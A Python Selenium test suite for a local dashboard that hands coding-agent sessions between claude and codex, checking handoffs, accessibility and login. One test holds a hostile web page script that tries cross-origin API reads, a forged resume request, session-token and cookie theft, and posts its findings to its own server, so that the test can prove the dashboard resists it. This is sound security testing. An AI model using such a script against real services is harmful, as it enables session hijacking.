"""The dashboard in a real headless browser: the system's chromium, driven by Selenium through its chromedriver.

A real daemon on a private tmux server, real git, the fake agents; the page
is used the way a person would use it, with the keyboard where it matters.
Screenshots stay with the test's tmp dir as artifacts.
"""

from __future__ import annotations

import re
import shutil
import tempfile

import pytest
from web_harness import free_port, login_url, web_config

from daemon_harness import (  # noqa: F401 (limited_claude is a fixture)
    limited_claude,
    logged,
    run_daemon,  # noqa: F401 (a fixture)
    wait_state,
)
from harness import wait_for

pytestmark = [pytest.mark.tmux, pytest.mark.browser]

# What chromium needs to run headless as root in a container, and to stay off the network.
CHROMIUM_FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--disable-dev-shm-usage", "--window-size=1500,1000")
COUNTDOWN = re.compile(r"^resets in (\d+[dhms] ?)+$")


@pytest.fixture
def browser(tmp_path):
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    binary = shutil.which("chromium") or shutil.which("chromium-browser")
    driver_path = shutil.which("chromedriver")
    if binary is None or driver_path is None:
        pytest.fail("chromium and chromedriver are not installed; scripts/test installs them (Debian: chromium chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = binary
    profile = tempfile.mkdtemp(prefix="afd-chromium-", dir=tmp_path)
    for flag in (*CHROMIUM_FLAGS, f"--user-data-dir={profile}"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(driver_path), options=options)
    driver.implicitly_wait(0)
    try:
        yield driver
    finally:
        try:
            driver.save_screenshot(str(tmp_path / "dashboard-last.png"))  # what the page showed at the end, pass or fail
        finally:
            driver.quit()


def find(driver, css: str, timeout: float = 20, message: str | None = None):
    from selenium.common.exceptions import NoSuchElementException

    def present():
        try:
            return driver.find_element("css selector", css)
        except NoSuchElementException:
            return None

    return wait_for(present, timeout=timeout, message=message or css)


def text_of(driver, css: str) -> str:
    return driver.find_element("css selector", css).text


def rows_of(driver, css: str, cell: str = "td") -> list[list[str]]:
    """The text of each match's cells (or of the match itself), read in one step: the page re-renders lists."""
    return driver.execute_script(
        "const [css, cell] = arguments; return [...document.querySelectorAll(css)].map("
        "  el => cell ? [...el.querySelectorAll(cell)].map(c => c.innerText) : [el.innerText]);", css, cell)


def contrast(driver) -> float:
    """The contrast ratio of the page's text on its background (WCAG's formula)."""
    colours = driver.execute_script(
        "const s = getComputedStyle(document.body); return [s.color, s.backgroundColor];")

    def luminance(css: str) -> float:
        r, g, b = (int(v) / 255 for v in re.findall(r"\d+", css)[:3])
        lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in (r, g, b)]
        return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]

    a, b = sorted((luminance(colours[0]), luminance(colours[1])), reverse=True)
    return (a + 0.05) / (b + 0.05)


def test_the_page_shows_a_limited_agent_hands_it_to_codex_and_shows_a_refused_resume(
        limited_claude, browser, tmp_path):
    from selenium.webdriver.common.keys import Keys

    port = free_port()
    wt, base, name, claude = limited_claude(web_config(port))
    browser.get(login_url())
    origin = f"http://127.0.0.1:{port}"
    assert browser.current_url == f"{origin}/"  # the token left the address bar

    # The limited fake agent, with its countdown ticking.
    row = find(browser, f'tr[data-session="{name}"]')
    wait_for(lambda: row.find_element("css selector", ".chip").text == "limited", message="the row says limited")
    clock = row.find_element("css selector", ".countdown")
    first = wait_for(lambda: clock.text, message="a countdown")
    assert COUNTDOWN.match(first), first
    wait_for(lambda: clock.text != first, timeout=5, message="the countdown ticking")
    assert row.find_element("css selector", ".agent").text == "claude"
    assert row.find_element("css selector", ".mission").text == "Fix the login test"
    # The limits panel has a row per account: claude's default account is the walled one.
    wait_for(lambda: rows_of(browser, '#agents tr[data-account="claude"] .chip', "") == [["limited"]],
             message="claude's account limited")
    browser.save_screenshot(str(tmp_path / "dashboard-limited.png"))

    # The filters: limited shows it, working hides it.
    for which, shown in (("working", False), ("needs", False), ("limited", True), ("all", True)):
        button = browser.find_element("css selector", f'#filters button[data-filter="{which}"]')
        button.send_keys(Keys.ENTER)
        assert button.get_attribute("aria-pressed") == "true"
        assert row.is_displayed() is shown, which
    assert browser.find_element("css selector", '#filters button[data-filter="limited"] .n').text == "(1)"

    # Keyboard only: open the session, open the picker, choose codex, confirm.
    opener = row.find_element("css selector", "button")
    opener.send_keys(Keys.ENTER)
    find(browser, "#detail:not([hidden])")
    wait_for(lambda: browser.switch_to.active_element.get_attribute("id") == "detail-h", message="focus on the session")
    browser.find_element("id", "handoff-open").send_keys(Keys.ENTER)
    codex = find(browser, "#target-codex:not([disabled])", message="codex offered")
    assert browser.switch_to.active_element == codex or codex.is_selected()
    claude_choice = browser.find_element("id", "target-claude")
    assert claude_choice.get_attribute("disabled") is not None
    assert text_of(browser, "#why-claude") == "claude is the agent running there now"
    assert browser.find_element("css selector", 'label[for="target-codex"]').text == "codex"
    browser.execute_script("window.afdNotReloaded = true;")
    codex.send_keys(Keys.SPACE)
    browser.find_element("id", "handoff-go").send_keys(Keys.ENTER)

    # The swap, in the same pane, and its ledger row without a reload.
    [cells] = wait_for(lambda: rows_of(browser, "#ledger tbody tr"), timeout=90, message="the ledger row")
    assert cells[1:3] == ["claude", "codex"] and cells[5] == "asked by you"
    assert browser.execute_script("return window.afdNotReloaded === true;")
    wait_for(lambda: logged(claude, "codex", "start"), message="codex started in the pane")
    s = wait_state(name, "idle", "working")
    assert s["pane"] == claude.pane and s["agent"] == "codex" and s["handoffs"] == 1
    ranges = [r[0] for r in rows_of(browser, "#ranges li", "")]
    assert ranges[0].startswith("claude wrote ") and ranges[1].startswith("codex wrote ") and ranges[1].endswith("(working now)")
    wait_for(lambda: row.find_element("css selector", ".agent").text == "codex", message="the row says codex")

    # A resume afd refuses: its one-line reason shows.
    browser.find_element("id", "resume").click()
    notice = find(browser, "#notice:not([hidden])")
    wait_for(lambda: notice.text.startswith(f"Refused: cannot resume {name}: "), message="the refusal shown")

    # The rows in the DOM are the daemon's sessions.
    shown = {tr.get_attribute("data-session"): tr for tr in browser.find_elements("css selector", "#sessions tbody tr")}
    assert set(shown) == {s["name"] for s in _status()["sessions"]}
    tr = shown[name]
    assert [tr.find_element("css selector", f".{c}").text for c in ("agent", "handoffs")] == ["codex", "1"]
    assert tr.find_element("css selector", ".location").text == s["location"]
    browser.save_screenshot(str(tmp_path / "dashboard-after-handoff.png"))

    # Everything the page loaded came from this server; no script error, no blocked load.
    loaded = browser.execute_script("return performance.getEntriesByType('resource').map(e => e.name);")
    assert loaded and all(u.startswith(f"{origin}/") for u in loaded), loaded
    problems = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"
                and not (e["source"] == "network" and "status of 409" in e["message"])]  # the refused resume
    assert problems == [], problems

    # Every control has a name a screen reader can say.
    unnamed = browser.execute_script(
        "return [...document.querySelectorAll('button, input, select, textarea')].filter(el =>"
        "  !(el.labels && el.labels.length) && !el.getAttribute('aria-label') && !el.textContent.trim()"
        ").map(el => el.outerHTML);")
    assert unnamed == []

    # Readable in light and in dark.
    assert contrast(browser) >= 7
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
    assert contrast(browser) >= 7
    assert browser.execute_script("return matchMedia('(prefers-color-scheme: dark)').matches;")
    browser.save_screenshot(str(tmp_path / "dashboard-dark.png"))
    assert (tmp_path / "dashboard-limited.png").stat().st_size > 10_000


def _status() -> dict:
    from daemon_harness import status

    return status()


# --- a page on another loopback port -------------------------------------------------------------

HOSTILE_PAGE = """<!doctype html><html><meta charset="utf-8"><title>another server</title><body>
<img src="http://127.0.0.1:{port}/api/status"><script>
const afd = "http://127.0.0.1:{port}";
const said = {{}};
async function attempt(name, run) {{
  try {{ said[name] = await run(); }} catch (err) {{ said[name] = "error: " + err; }}
}}
(async () => {{
  await attempt("read", async () => (await fetch(afd + "/api/status", {{credentials: "include"}})).status);
  await attempt("resume", async () => (await fetch(afd + "/api/sessions/{name}/resume",
      {{method: "POST", mode: "no-cors", credentials: "include", body: "{{}}"}})).type);
  await attempt("storage", async () => {{
    const w = window.open(afd + "/");
    await new Promise((r) => setTimeout(r, 1500));
    return w.sessionStorage.getItem("afd-session");
  }});
  await attempt("cookies", async () => document.cookie);
  await fetch("/report", {{method: "POST", body: JSON.stringify(said)}});
}})();
</script></body></html>"""


class Hostile:
    """A server on another loopback port, as an agent's dev server would be: it keeps every request it gets."""

    def __init__(self, page: str):
        import http.server
        import threading

        self.requests: list[dict] = []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                self._keep(b"")
                body = page.encode() if self.path == "/" else b""
                self.send_response(200 if self.path == "/" else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):  # noqa: N802
                self._keep(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(204)
                self.end_headers()

            def _keep(self, body: bytes):
                owner.requests.append({"path": self.path, "headers": dict(self.headers.items()), "body": body.decode(errors="replace")})

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_page_on_another_loopback_port_gets_nothing_that_works_against_afd(limited_claude, browser):
    import json

    from web_harness import Client

    port = free_port()
    wt, base, name, claude = limited_claude(web_config(port))
    browser.get(login_url())
    find(browser, f'tr[data-session="{name}"]')  # logged in and watching
    session = browser.execute_script("return sessionStorage.getItem('afd-session');")
    assert session and Client(port, session=session).get("/api/status").status == 200
    dashboard = browser.current_window_handle

    hostile = Hostile(HOSTILE_PAGE.format(port=port, name=name))
    try:
        browser.switch_to.new_window("tab")
        browser.get(f"http://127.0.0.1:{hostile.port}/")
        [report] = wait_for(lambda: [r for r in hostile.requests if r["path"] == "/report"], timeout=30,
                            message="the other page's report")
        said = json.loads(report["body"])
        received = list(hostile.requests)
    finally:
        hostile.stop()

    # What the page could do from the browser: no answer, no storage, no cookie.
    assert said["read"].startswith("error:"), said  # no CORS header: the browser withholds the answer
    assert said["storage"] is None or said["storage"].startswith("error:"), said
    assert said["cookies"] == "", said
    # What its server received: nothing of the login, and nothing that works when replayed.
    assert received and all(session not in json.dumps(r) for r in received)
    for r in received:
        replayed = {k: v for k, v in r["headers"].items() if k.lower() not in ("host", "content-length")}
        stranger = Client(port)
        assert stranger.get("/api/status", headers=replayed).status in (401, 403), r
        assert stranger.post(f"/api/sessions/{name}/resume", headers={**replayed, "x-afd": "1"}).status in (401, 403), r
    # Nothing was done to the session, and the dashboard's own tab still works.
    s = wait_state(name, "limited")
    assert s["agent"] == "claude" and s["handoffs"] == 0
    browser.switch_to.window(dashboard)
    assert browser.execute_script("return sessionStorage.getItem('afd-session');") == session
    assert Client(port, session=session).get("/api/status").status == 200


def test_the_page_afd_web_open_writes_logs_the_browser_in(run_daemon, xdg_dirs, browser, tmp_path):
    import sys

    from web_harness import afd

    from daemon_harness import write_config

    port = free_port()
    write_config(xdg_dirs, web_config(port))
    run_daemon()
    given = tmp_path / "given"
    opener = tmp_path / "opener"
    opener.write_text(f"#!{sys.executable}\nimport sys\nopen({str(given)!r}, 'w').write(sys.argv[1])\n")
    opener.chmod(0o700)
    done = afd("web", "--open", env={"BROWSER": str(opener)})
    assert done.returncode == 0, done.stderr
    page = wait_for(lambda: given.exists() and given.read_text(), message="the address handed to the browser")
    assert page.startswith("file:///") and "token" not in page
    browser.get(page)
    wait_for(lambda: browser.current_url == f"http://127.0.0.1:{port}/", message="sent on to the dashboard, the token gone")
    wait_for(lambda: text_of(browser, "#live") == "live", message="logged in and following events")
    assert browser.execute_script("return sessionStorage.getItem('afd-session');")
